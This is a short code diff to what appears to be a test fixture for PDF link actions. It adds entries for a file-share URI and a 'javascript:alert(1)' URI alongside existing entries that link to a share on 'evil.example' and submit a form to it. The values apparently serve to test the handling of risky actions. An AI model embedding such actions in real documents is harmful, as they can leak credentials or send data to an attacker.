@@ -52,6 +52,8 @@ OPENING = {
 CLICKED = {
     "a share": go_to(r"\\evil.example\share\a.pdf"),
     "a drive": go_to("c:/a.pdf"),
+    "a share, as an address": Dictionary(S=Name.URI, URI=String("FILE://evil.example/share")),
+    "a script, as an address": Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
     "an embedded document": go_to("a.pdf", "/GoToE"),
     "a form that is sent": Dictionary(S=Name.SubmitForm, F=String("https://evil.example")),
 }
